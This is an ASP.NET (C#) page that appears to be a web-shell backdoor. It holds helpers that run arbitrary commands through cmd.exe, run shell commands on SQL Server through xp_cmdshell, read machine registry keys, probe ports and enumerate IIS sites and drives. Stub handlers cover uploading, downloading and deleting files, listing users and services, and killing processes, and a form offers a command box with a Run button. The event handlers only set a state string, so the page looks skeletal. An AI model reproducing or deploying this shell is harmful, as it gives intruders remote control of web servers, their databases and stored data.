<%@ Page Language="C#" Debug="false" validateRequest="false" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="Microsoft.Win32" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%@ Import Namespace="System.DirectoryServices" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<script runat="server">
    string Bin_State = "";
    protected void Bin_Login_Click(object sender, EventArgs e) { Bin_State = "login"; }
    protected void Bin_Logout_Click(object sender, EventArgs e) { Bin_State = "logout"; }
    protected void Bin_Files_Click(object sender, EventArgs e) { Bin_State = "files"; }
    protected void Bin_Upload_Click(object sender, EventArgs e) { Bin_State = "upload"; }
    protected void Bin_NewFile_Click(object sender, EventArgs e) { Bin_State = "newfile"; }
    protected void Bin_NewDir_Click(object sender, EventArgs e) { Bin_State = "newdir"; }
    protected void Bin_Delete_Click(object sender, EventArgs e) { Bin_State = "delete"; }
    protected void Bin_Rename_Click(object sender, EventArgs e) { Bin_State = "rename"; }
    protected void Bin_Download_Click(object sender, EventArgs e) { Bin_State = "download"; }
    protected void Bin_Edit_Click(object sender, EventArgs e) { Bin_State = "edit"; }
    protected void Bin_Cmd_Click(object sender, EventArgs e) { Bin_State = "cmd"; }
    protected void Bin_CmdRun_Click(object sender, EventArgs e) { Bin_State = "cmdrun"; }
    protected void Bin_Sysinfo_Click(object sender, EventArgs e) { Bin_State = "sysinfo"; }
    protected void Bin_Process_Click(object sender, EventArgs e) { Bin_State = "process"; }
    protected void Bin_Services_Click(object sender, EventArgs e) { Bin_State = "services"; }
    protected void Bin_Users_Click(object sender, EventArgs e) { Bin_State = "users"; }
    protected void Bin_Registry_Click(object sender, EventArgs e) { Bin_State = "registry"; }
    protected void Bin_RegRead_Click(object sender, EventArgs e) { Bin_State = "regread"; }
    protected void Bin_PortScan_Click(object sender, EventArgs e) { Bin_State = "portscan"; }
    protected void Bin_Scan_Click(object sender, EventArgs e) { Bin_State = "scan"; }
    protected void Bin_Sql_Click(object sender, EventArgs e) { Bin_State = "sql"; }
    protected void Bin_SqlExec_Click(object sender, EventArgs e) { Bin_State = "sqlexec"; }
    protected void Bin_SqlConn_Click(object sender, EventArgs e) { Bin_State = "sqlconn"; }
    protected void Bin_IIS_Click(object sender, EventArgs e) { Bin_State = "iis"; }
    protected void Bin_IISList_Click(object sender, EventArgs e) { Bin_State = "iislist"; }
    protected void Bin_Clone_Click(object sender, EventArgs e) { Bin_State = "clone"; }
    protected void Bin_Attribute_Click(object sender, EventArgs e) { Bin_State = "attribute"; }
    protected void Bin_Copy_Click(object sender, EventArgs e) { Bin_State = "copy"; }
    protected void Bin_Paste_Click(object sender, EventArgs e) { Bin_State = "paste"; }
    protected void Bin_Drives_Click(object sender, EventArgs e) { Bin_State = "drives"; }
    protected void Bin_Terminal_Click(object sender, EventArgs e) { Bin_State = "terminal"; }
    protected void Bin_Backup_Click(object sender, EventArgs e) { Bin_State = "backup"; }
    protected void Bin_Restore_Click(object sender, EventArgs e) { Bin_State = "restore"; }
    protected void Bin_Plugin_Click(object sender, EventArgs e) { Bin_State = "plugin"; }
    protected void Bin_Port_Click(object sender, EventArgs e) { Bin_State = "port"; }
    protected void Bin_Kill_Click(object sender, EventArgs e) { Bin_State = "kill"; }
    string Bin_RunCmd(string a) {
        ProcessStartInfo si = new ProcessStartInfo("cmd.exe", "/c " + a);
        si.UseShellExecute = false; si.RedirectStandardOutput = true;
        return Process.Start(si).StandardOutput.ReadToEnd();
    }
    string Bin_Reg(string k) { return Convert.ToString(Registry.LocalMachine.OpenSubKey(k).GetValue("")); }
    string Bin_SqlShell(SqlConnection c, string a) { return new SqlCommand("exec master..xp_cmdshell '" + a + "'", c).ExecuteScalar().ToString(); }
    bool Bin_Probe(string h, int p) { try { new TcpClient(h, p).Close(); return true; } catch { return false; } }
    string[] Bin_Roots() { return Directory.GetLogicalDrives(); }
    DirectoryEntry Bin_Site() { return new DirectoryEntry("IIS://localhost/W3SVC"); } // IIsWebVirtualDir walker
</script>
<html><body><form runat="server">
<asp:TextBox ID="Bin_CmdBox" runat="server" /><asp:Button ID="Bin_CmdButton" runat="server" OnClick="Bin_CmdRun_Click" Text="Run" />
<asp:Label ID="Bin_Msg" runat="server" /></form></body></html>
